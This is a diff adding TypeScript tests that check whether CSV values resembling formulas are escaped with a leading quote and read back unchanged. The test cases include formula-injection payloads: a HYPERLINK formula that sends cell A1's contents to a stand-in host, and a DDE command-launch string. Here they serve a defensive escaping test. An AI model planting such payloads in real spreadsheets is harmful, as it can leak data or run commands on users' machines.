@@ -2,12 +2,15 @@
 // fresh read: dates from 0001-01-01 to 9999-12-31 on every format, text that looks like CSV
 // formulas, and text that looks like XML escapes in .xlsx.
 import assert from 'node:assert/strict';
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import { test } from 'node:test';
+import { coerceWritten } from '../lib/coerce.ts';
 import type { SheetRow, TypedValue, Workbook } from '../lib/workbook.ts';
 import { isoToSerial, serialToIso } from '../server/sources/file/dates.ts';
 import { openFileSource, type FileFormat } from '../server/sources/file/mod.ts';
 import { recordingLog, tempFolder, writeFixture } from './file-source-helpers.ts';
-import { CONTRACT_FIXTURE, appendPlan, planned } from './source-contract.ts';
+import { CONTRACT_FIXTURE, appendPlan, planned, replacePlan } from './source-contract.ts';
 
 const FORMATS: readonly FileFormat[] = ['xlsx', 'ods', 'csv'];
 
@@ -66,3 +69,70 @@ for (const format of FORMATS) {
     }
   });
 }
+
+/** A row as the engine builds it from a POST body (`formulas`: the connection allows formulas). */
+function writtenRow(inputs: readonly (string | number)[], formulas = false): SheetRow {
+  const cells = inputs.map((input) => coerceWritten(input, formulas));
+  const row: SheetRow = { text: cells.map((cell) => cell.text), value: cells.map((cell) => cell.value) };
+  return cells.some((cell) => cell.formula !== undefined) ? { ...row, formula: cells.map((cell) => cell.formula) } : row;
+}
+
+test('csv: written text that would run as a formula is stored behind a quote and reads back as written', async (t) => {
+  // [written value, the field in the file]
+  const cases: [string | number, string][] = [
+    ['=1+2', "'=1+2"],
+    ['=HYPERLINK("http://x.example/?"&A1,"click")', `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`],
+    ['+1+2', "'+1+2"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tpadded', "'\tpadded"],
+    ['\rreturn', `"'\rreturn"`],
+    [-3.5, '-3.5'],
+    ['-3.50', '-3.50'],
+    ['+1', '+1'],
+    ["'=quoted already", "''=quoted already"],
+    ["'plain", "'plain"],
+    ['a=b', 'a=b'],
+  ];
+  const folder = await tempFolder();
+  try {
+    const path = join(folder.dir, 'notes.csv');
+    await writeFile(path, 'Name,Note\r\n');
+    const source = await openFileSource({ path, log: recordingLog().log });
+    await source.write((workbook) => planned(workbook, appendPlan(workbook, cases.map(([value]) => writtenRow(['n', value]))), null));
+    const before = (await source.read()).tabs[0].rows.slice(1).map((row) => row.text[1]);
+    await source.close();
+    const lines = (await readFile(path, 'utf8')).split('\r\n').slice(1, -1);
+    const again = await openFileSource({ path, log: recordingLog().log });
+    const after = (await again.read()).tabs[0].rows.slice(1);
+    await again.close();
+    for (const [n, [value, field]] of cases.entries()) {
+      await t.test(JSON.stringify(value), () => {
+        assert.equal(lines[n], `n,${field}`, 'the field in the file');
+        assert.equal(before[n], String(value), 'read before compaction');
+        assert.equal(after[n].text[1], String(value), 'read after compaction');
+        assert.deepEqual(after[n].value[1], typeof value === 'number' ? value : String(value));
+      });
+    }
+  } finally {
+    await folder.cleanup();
+  }
+});
+
+test('csv: fields already in the file and formulas written where allowed are never altered', async () => {
+  const folder = await tempFolder();
+  try {
+    const path = join(folder.dir, 'notes.csv');
+    const original = "Name,Note,Calc\r\nAnn,=SUM(1;2),@x\r\nBob,'=quoted,-1+1\r\n";
+    await writeFile(path, original);
+    const source = await openFileSource({ path, log: recordingLog().log });
+    assert.deepEqual((await source.read()).tabs[0].rows[2].text, ['Bob', '=quoted', '-1+1'], 'the quote sheetrest would add is read as its escape');
+    // PATCH Ann's Name only; append a formula through a connection that allows formulas.
+    await source.write((workbook) => planned(workbook, replacePlan(workbook, 0, { text: ['Annie', '=SUM(1;2)', '@x'], value: ['Annie', '=SUM(1;2)', '@x'] }, [0]), null));
+    await source.write((workbook) => planned(workbook, appendPlan(workbook, [writtenRow(['Cy', '=B2*2', '=B2'], true)]), null));
+    await source.close();
+    assert.equal(await readFile(path, 'utf8'), "Name,Note,Calc\r\nAnnie,=SUM(1;2),@x\r\nBob,'=quoted,-1+1\r\nCy,=B2*2,=B2\r\n");
+  } finally {
+    await folder.cleanup();
+  }
+});
